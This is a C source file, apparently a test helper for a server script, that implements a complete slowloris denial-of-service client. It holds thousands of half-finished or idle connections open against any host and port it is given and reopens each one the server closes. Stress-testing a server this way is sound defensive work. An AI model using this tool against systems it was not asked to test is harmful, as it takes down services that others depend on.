/*
 * slowloris.c — an attacker for httpd_slowloris.sh: keeps CONNS connections open to
 * HOST:PORT for SECONDS. In "trickle" mode each sends a request's headers one byte
 * every INTERVAL_MS and never finishes them; in "idle" mode each connects and sends
 * nothing. A connection the server closes is opened again at once, so the pressure
 * stays. Prints what happened: connections opened, closed by the server, bytes sent.
 *
 * usage: slowloris trickle|idle HOST PORT CONNS SECONDS INTERVAL_MS
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const char head[] = "GET /api/v1/videos HTTP/1.1\r\nHost: localhost\r\n";
static const char trickle[] = "X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n";

struct conn {
	int fd;
	size_t sent; /* bytes of head + trickle sent so far */
};

static long long now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int open_conn(const struct sockaddr_in *sa)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	if (connect(fd, (const struct sockaddr *)sa, sizeof(*sa)) != 0 && errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	return fd;
}

/* The next byte to send: the head once, then the trickle header over and over. */
static char next_byte(size_t sent)
{
	size_t hl = sizeof(head) - 1, tl = sizeof(trickle) - 1;
	return sent < hl ? head[sent] : trickle[(sent - hl) % tl];
}

int main(int argc, char **argv)
{
	if (argc != 7 || (strcmp(argv[1], "trickle") != 0 && strcmp(argv[1], "idle") != 0)) {
		fprintf(stderr,
		        "usage: slowloris trickle|idle HOST PORT CONNS SECONDS INTERVAL_MS\n");
		return 64;
	}
	int trick = strcmp(argv[1], "trickle") == 0;
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[3]))};
	if (inet_pton(AF_INET, argv[2], &sa.sin_addr) != 1) {
		fprintf(stderr, "slowloris: bad address %s\n", argv[2]);
		return 64;
	}
	int n = atoi(argv[4]);
	long long end = now_ms() + atoll(argv[5]) * 1000, interval = atoll(argv[6]);
	if (n <= 0 || n > 10000 || interval <= 0) {
		fprintf(stderr, "slowloris: bad numbers\n");
		return 64;
	}
	/* Room for every connection: raise the soft limit to the hard one. */
	struct rlimit rl;
	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
		rl.rlim_cur = rl.rlim_max;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
	struct conn *c = calloc((size_t)n, sizeof(*c));
	struct pollfd *p = calloc((size_t)n, sizeof(*p));
	if (!c || !p)
		return 70;
	unsigned long opened = 0, closed = 0, bytes = 0, failed = 0;
	for (int i = 0; i < n; i++) {
		c[i].fd = open_conn(&sa);
		if (c[i].fd < 0)
			failed++;
		else
			opened++;
	}
	long long next_tick = now_ms();
	while (now_ms() < end) {
		/* Notice connections the server closed (readable: EOF, an answer or an error). */
		for (int i = 0; i < n; i++) {
			p[i].fd = c[i].fd;
			p[i].events = POLLIN;
			p[i].revents = 0;
		}
		long long wait = next_tick - now_ms();
		if (poll(p, (nfds_t)n, wait > 0 ? (int)wait : 0) < 0 && errno != EINTR)
			return 71;
		for (int i = 0; i < n; i++) {
			char buf[4096];
			if (c[i].fd < 0 || !(p[i].revents & (POLLIN | POLLHUP | POLLERR)))
				continue;
			ssize_t r = read(c[i].fd, buf, sizeof(buf));
			if (r > 0 || (r < 0 && (errno == EAGAIN || errno == EINTR)))
				continue; /* an answer (a 408, say) before the close: keep reading
				           */
			close(c[i].fd);
			closed++;
			c[i].fd = open_conn(&sa);
			c[i].sent = 0;
			if (c[i].fd < 0)
				failed++;
			else
				opened++;
		}
		if (now_ms() < next_tick)
			continue;
		next_tick = now_ms() + interval;
		for (int i = 0; i < n && trick; i++) {
			if (c[i].fd < 0) {
				c[i].fd = open_conn(&sa);
				c[i].sent = 0;
				if (c[i].fd < 0) {
					failed++;
					continue;
				}
				opened++;
			}
			char b = next_byte(c[i].sent);
			if (write(c[i].fd, &b, 1) == 1) {
				c[i].sent++;
				bytes++;
			}
		}
	}
	printf("slowloris %s: %d connections kept for %s s: %lu opened, %lu closed by the "
	       "server, %lu failed to open, %lu bytes trickled\n",
	       argv[1], n, argv[5], opened, closed, failed, bytes);
	for (int i = 0; i < n; i++)
		if (c[i].fd >= 0)
			close(c[i].fd);
	free(c);
	free(p);
	return 0;
}
